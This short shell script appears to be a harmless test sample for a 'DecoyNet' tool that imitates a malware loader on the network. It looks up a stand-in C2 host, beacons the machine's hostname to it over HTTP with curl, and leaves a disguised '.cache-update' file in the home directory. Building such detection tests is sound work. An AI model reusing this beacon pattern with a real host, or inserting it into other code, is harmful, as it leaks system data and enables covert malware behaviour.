#!/bin/sh
# DecoyNet's harmless test sample: what a first-stage loader does, seen only on the network. It
# looks up its C&C, beacons over HTTP, and leaves a file in its person's home. Nothing else.
getent hosts c2.example.net >/dev/null
curl -s -m 10 -o /dev/null "http://c2.example.net/beacon?host=$(hostname)"
echo "beaconed $(date -u +%FT%TZ)" >"$HOME/.cache-update"
